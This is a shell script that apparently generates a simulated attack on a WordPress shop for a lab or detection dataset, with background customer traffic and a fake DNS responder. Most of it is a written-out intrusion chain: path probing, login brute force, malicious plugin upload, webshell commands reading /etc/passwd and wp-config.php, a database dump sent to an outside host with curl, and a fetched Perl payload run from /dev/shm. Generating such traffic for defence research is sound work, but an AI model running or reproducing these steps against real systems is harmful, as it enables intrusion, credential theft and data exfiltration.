# Who brings a plugin, and, beside him, the shop's customers and a quiet user.
. ./client.sh
site=http://198.51.100.20:8080
perl web.pl 203.0.113.9 80 www &
perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", LocalAddr => "203.0.113.53", LocalPort => 53); while (1) { my $from = $s->recv(my $q, 512); substr($q, 2, 1) = chr(0x81); $s->send($q, 0, $from) }' &
customers() { while [ ! -e shared/over ]; do curl -s -m 2 "$site/index.php" > /dev/null; sleep 0.5; curl -s -m 2 -d item=1 "$site/order.php" > /dev/null; sleep 1.1; done; }
customers &
quiet_user > /dev/null 2>&1 &
sleep 2
as_attacker() { curl -s -m 8 --interface 203.0.113.66 "$@" > /dev/null; sleep 0.2; }
shell() { as_attacker --data-urlencode "c=$1" $site/wp-content/plugins/hello/hello.php; }
for path in readme.html wp-json/ .env backup.zip wp-content/debug.log; do as_attacker $site/$path; done
for i in 1 2 3 4 5 6 7 8 9 10 11; do as_attacker -d "log=admin&pwd=guess$i" $site/wp-login.php; done
as_attacker -F pluginzip=@www/hello.zip $site/wp-admin/update.php
shell id
shell 'whoami; uname -a'
shell 'cat /etc/passwd'
shell 'cat /var/www/html/wp-config.php'
shell 'find /usr/bin -perm -4000 -type f'
shell 'grep -ri password /var/www/html'
shell 'mkdir -p /tmp/.tmpfs; mysqldump -u wp shop > /tmp/.tmpfs/db.sql'
shell 'gzip -f /tmp/.tmpfs/db.sql'
shell 'curl -s -T /tmp/.tmpfs/db.sql.gz http://203.0.113.9/up'
shell 'wget -q -O /dev/shm/.p http://203.0.113.9/p.pl'
perl type.pl 203.0.113.66 4444 webshell/typed > typed.log 2>&1 &
typing=$!
sleep 0.5
shell 'nohup perl /dev/shm/.p > /dev/null 2>&1 &' &
wait $typing
touch shared/over
sleep 2
kill $(jobs -p) 2> /dev/null || true
